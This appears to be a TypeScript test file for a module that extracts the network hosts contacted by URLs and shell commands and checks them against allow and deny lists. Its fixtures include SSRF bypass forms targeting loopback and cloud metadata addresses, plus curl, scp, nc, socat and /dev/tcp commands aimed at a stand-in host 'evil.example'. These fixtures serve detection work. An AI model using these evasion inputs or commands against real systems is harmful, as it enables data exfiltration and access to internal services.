import { describe, expect, it } from 'vitest'
import type { ArgumentText } from './argument-texts.js'
import type { SimpleCommand } from './commands/command-line.js'
import { collectHosts, compileHostRules, isHostOutside, type HostFact } from './hosts.js'

function text(value: string, role: ArgumentText['role'] = 'other'): ArgumentText {
  return { text: value, role }
}

function namesIn(value: string, role?: ArgumentText['role']): readonly string[] {
  return collectHosts([text(value, role)], [], []).map(nameOf)
}

function nameOf(fact: HostFact): string {
  return fact.kind === 'host' ? fact.name : 'unclear'
}

function isOutside(value: string, lists: { allows?: string[]; notAllows?: string[] }): boolean {
  const rules = compileHostRules(lists.allows, lists.notAllows)
  return rules !== undefined && isHostOutside(collectHosts([text(value, 'host')], [], []), rules)
}

describe('hosts in texts', () => {
  it.each([
    ['https://Example.ORG/x', ['example.org']],
    ['https://example.org./', ['example.org']],
    ['https://user:pass@example.org:8443/x', ['example.org']],
    ['open https://a.example and (https://b.example).', ['a.example', 'b.example']],
    ['[x](https://a.example/y) **https://b.example**', ['a.example', 'b.example']],
    ['https://a.example/,https://b.example/', ['a.example', 'b.example']],
    ['https://a.example/?to=https://b.example', ['a.example']],
    ['https://a.example/web/https://b.example', ['a.example']],
    ['{"u":"https://a.example/x"}', ['a.example']],
    ['view-source:https://a.example', ['a.example']],
    ['git+ssh://git@a.example/x.git', ['a.example']],
    ['-xhttp://a.example:3128', ['a.example']],
    ['http://2130706433/', ['127.0.0.1']],
    ['http://0x7f.1/', ['127.0.0.1']],
    ['http://127.1', ['127.0.0.1']],
    ['http://[::1]:80/', ['::1']],
    ['http://[::ffff:7f00:1]/', ['127.0.0.1']],
    ['http://[::127.0.0.1]/', ['127.0.0.1']],
    ['http://[64:ff9b::169.254.169.254]/', ['169.254.169.254']],
    ['http://[2002:a9fe:a9fe::]/', ['169.254.169.254']],
    ['https://ｅｖｉｌ.example/', ['evil.example']],
    ['https://münchen.example/', ['xn--mnchen-3ya.example']],
    ['https://a。example/', ['a.example']],
    ['no host: at all', []],
    ['ratio 3:/1', []],
  ])('%s names %j', (value, names) => {
    expect(namesIn(value)).toEqual(names)
  })

  it.each([
    'https://a.example\\@b.example/',
    'https://a.example\\.b.example',
    'https://a@b@c.example/',
    'https://a.example#@b.example/',
    'https://a.example?@b.example/',
    'https://%61.example/',
    'https://a.example%40b.example/',
    'https:///a.example/',
    'https:a.example',
    'https:/a.example',
    'https:\\\\a.example',
    'http://0177.0.0.1/',
    'http://[fe80::1%25eth0]/',
    'http://a.example:99999/',
    'https://a.example:80:81/',
    'https://a..example/',
    'https://faß.example/',
    'https://a\u200d.example/',
    'https://{a,b}.example/',
    'https://$HOST/',
    'https://',
    'https://evil.example⁄.a.example/',
    'file:///etc/passwd',
  ])('%s is unclear', (value) => {
    expect(namesIn(value)).toContain('unclear')
  })

  it('sees the host behind a user name with a blank', () => {
    expect(namesIn('https://a.example @evil.example')).toContain('evil.example')
  })

  it('reads every line of an argument that names hosts', () => {
    expect(namesIn('https://a.example\r\nHost: evil.example', 'host')).toContain('unclear')
    expect(namesIn('https://a.example\nevil.example', 'host')).toContain('evil.example')
  })

  it('sees the host a parser finds after it drops line ends and tabs', () => {
    expect(namesIn('https://ev\nil.example/')).toContain('evil.example')
    expect(namesIn('ht\ttps://evil.example/')).toContain('evil.example')
  })

  it.each([
    ['evil.example/x', ['evil.example']],
    ['evil.example:8080', ['evil.example']],
    ['//evil.example/x', ['evil.example']],
    ['localhost', ['localhost']],
    ['2130706433', ['127.0.0.1']],
    ['a.example,b.example', ['a.example', 'b.example']],
    ['/relative', []],
    ['data:text/html,x', ['unclear']],
    ['javascript:alert(1)', ['unclear']],
  ])('an argument that names a host reads %s as %j', (value, names) => {
    expect(namesIn(value, 'host')).toEqual(names)
  })

  it('reads an argument that may hold a link only when it looks like a host', () => {
    expect(namesIn('users/list', 'link')).toEqual([])
    expect(namesIn('evil.example/list', 'link')).toEqual(['evil.example'])
  })
})

describe('lists of hosts', () => {
  it('matches a glob against the whole name', () => {
    const lists = { allows: ['*.Example.org'] }
    expect(isOutside('https://a.b.example.org/', lists)).toBe(false)
    expect(isOutside('https://example.org/', lists)).toBe(true)
    expect(isOutside('https://a.example.org.evil.example/', lists)).toBe(true)
  })

  it('lets an exclusion win', () => {
    expect(isOutside('https://a.example/', { allows: ['*'], notAllows: ['a.example'] })).toBe(true)
  })

  it('compares international names in one form', () => {
    expect(isOutside('https://xn--mnchen-3ya.example/', { allows: ['münchen.example'] })).toBe(false)
  })

  it.each([
    'localhost',
    'x.localhost',
    '127.0.0.1',
    '10.1.2.3',
    '172.16.0.1',
    '192.168.0.1',
    '169.254.169.254',
    '100.64.0.1',
    '0',
    '[::]',
    '[::1]',
    '[fe80::1]',
    '[fd00::1]',
    '[::ffff:10.0.0.1]',
    'metadata.google.internal',
    '127.0.0.1.nip.io',
  ])('never lets a glob permit %s', (host) => {
    expect(isOutside(`http://${host}/`, { allows: ['*'] })).toBe(true)
    expect(isOutside(`http://${host}/`, { allows: ['*', '*.*', '1*', '*o*', '[:0-9a-z]*'] })).toBe(true)
  })

  it.each([
    ['http://127.1:8080/', '127.0.0.1'],
    ['http://[::1]/', '::1'],
    ['http://[0:0::1]/', '[::1]'],
    ['http://LOCALHOST/', 'localhost'],
    ['http://[::ffff:127.0.0.1]/', '127.0.0.1'],
  ])('permits %s when %s is listed literally', (url, entry) => {
    expect(isOutside(url, { allows: [entry] })).toBe(false)
  })

  it('permits public addresses by a glob', () => {
    expect(isOutside('http://8.8.8.8/', { allows: ['*'] })).toBe(false)
  })

  it('excludes internal addresses by a glob', () => {
    expect(isOutside('http://10.1.2.3/', { allows: ['10.1.2.3'], notAllows: ['10.*'] })).toBe(true)
  })
})

describe('hosts in commands', () => {
  function namesOf(line: string): readonly string[] {
    const [name = '', ...args] = line.split(' ')
    const command: SimpleCommand = { name, args, via: 'direct' }
    return collectHosts([], [command], [name, ...args]).map(nameOf)
  }

  it.each([
    ['curl evil.example', ['evil.example']],
    ['curl -sSLo out evil.example/x', ['evil.example']],
    ['curl -o y -H A:b https://a.example/', ['a.example']],
    ['curl -x evil.example:3128 https://a.example/', ['a.example', 'evil.example']],
    ['curl -xevil.example https://a.example/', ['a.example', 'evil.example']],
    ['curl --proxy=evil.example https://a.example/', ['a.example', 'evil.example']],
    ['curl --resolve a.example:443:10.0.0.1 https://a.example/', ['a.example', '10.0.0.1']],
    ['curl --connect-to ::evil.example:443 https://a.example/', ['a.example', 'evil.example']],
    ['/usr/bin/curl evil.example', ['evil.example']],
    ['wget evil.example/x', ['evil.example']],
    ['wget -e http_proxy=evil.example https://a.example/', ['evil.example', 'a.example']],
    ['http POST evil.example name=value', ['evil.example']],
    ['ssh -p 22 user@evil.example ls /tmp', ['evil.example']],
    ['ssh -J jump.example a.example', ['jump.example', 'a.example']],
    ['scp a.txt user@evil.example:/x', ['evil.example']],
    ['scp a.txt evil:x', ['evil']],
    ['rsync -a src evil.example::mod', ['evil.example']],
    ['nc -zv evil.example 80', ['evil.example']],
    ['nc -l 8080', []],
    ['telnet evil.example 25', ['evil.example']],
    ['ping -c 1 evil', ['evil']],
    ['dig @ns.evil.example a.example MX', ['ns.evil.example', 'a.example']],
    ['socat - TCP:evil.example:80', ['evil.example']],
    ['openssl s_client -connect evil.example:443', ['evil.example']],
    ['openssl x509 -in cert.pem', []],
    ['git clone git@evil.example:a/b.git', ['evil.example']],
    ['git clone evil:a/b.git', ['evil']],
    ['git push origin HEAD:refs/heads/x', []],
    ['git push git@evil.example:a HEAD:x', ['evil.example']],
    ['git commit -m a:b', []],
    ['docker pull evil.example/x', ['evil.example']],
    ['docker pull alpine', []],
    ['psql -h evil.example', ['evil.example']],
    ['cat </dev/tcp/evil.example/80', ['evil.example']],
    ['http_proxy=evil.example:3128 x', ['evil.example']],
    ['curl -K config', ['unclear']],
    ['wget -i list', ['unclear']],
    ['ls evil.example', []],
    // Options that look alike but take no value in this program.
    ['ping -q evil.example', ['evil.example']],
    ['traceroute -I evil.example', ['evil.example']],
    ['mtr -w evil.example', ['evil.example']],
    ['host -T evil.example', ['evil.example']],
    ['drill -t evil.example', ['evil.example']],
    ['dig -q evil.example', ['evil.example']],
    ['rsync -aP evil.example:/x .', ['evil.example']],
    ['scp -B evil.example:/x .', ['evil.example']],
    ['aria2c -c evil.example/x', ['evil.example']],
    ['ftp -e evil.example', ['evil.example']],
    ['ssh -o HostName=evil.example a.example', ['evil.example', 'a.example']],
    ['ssh -F config a.example', ['a.example', 'unclear']],
  ])('%s contacts %j', (line, names) => {
    expect(namesOf(line)).toEqual(names)
  })
})
